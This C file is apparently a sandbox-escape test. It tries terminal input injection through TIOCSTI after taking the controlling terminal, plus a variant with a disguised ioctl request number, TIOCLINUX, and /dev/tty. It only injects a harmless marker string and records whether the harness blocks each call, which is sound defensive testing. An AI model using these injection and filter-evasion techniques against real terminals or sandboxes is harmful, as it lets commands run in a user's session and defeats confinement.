// Terminal injection: push characters into the input queue of the terminal the harness gives
// us as stdin (TIOCSTI), after trying to make it our controlling terminal (setsid +
// TIOCSCTTY); also with the request number hidden in the upper 32 bits, and TIOCLINUX.
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

#include "attack.h"
int main(void) {
  if (!isatty(0)) note("stdin is not a terminal (the harness should pass one)");
  if (setsid() < 0) note("setsid: %s", strerrorname_np(errno));
  if (ioctl(0, TIOCSCTTY, 0) == 0)
    note("TIOCSCTTY: stdin became our controlling terminal");
  else
    note("TIOCSCTTY: %s", strerrorname_np(errno));
  const char* cmd = "INJECTED\n";
  int injected = 0;
  for (const char* c = cmd; *c; c++) {
    if (syscall(SYS_ioctl, 0, TIOCSTI, c) == 0) injected++;
  }
  note("TIOCSTI: %d of %zu characters pushed (errno %s)", injected, strlen(cmd),
       strerrorname_np(errno));
  if (injected) escaped_because("TIOCSTI pushed %d characters", injected);
  long r = syscall(SYS_ioctl, 0, (1UL << 32) | TIOCSTI, "Z");
  attempt("ioctl(0, 1<<32|TIOCSTI)", r);
  char sub[2] = {6, 0};  // TIOCL_SETSEL-like subcode; any TIOCLINUX is refused
  attempt("ioctl(0, TIOCLINUX)", syscall(SYS_ioctl, 0, TIOCLINUX, sub));
  int fd = open("/dev/tty", O_RDWR | O_CLOEXEC);
  if (fd >= 0) {
    note("opened /dev/tty");
    attempt("ioctl(/dev/tty, TIOCSTI)", syscall(SYS_ioctl, fd, TIOCSTI, "Y"));
  } else {
    note("open /dev/tty: %s", strerrorname_np(errno));
  }
  return finish("nothing injected into the terminal");
}
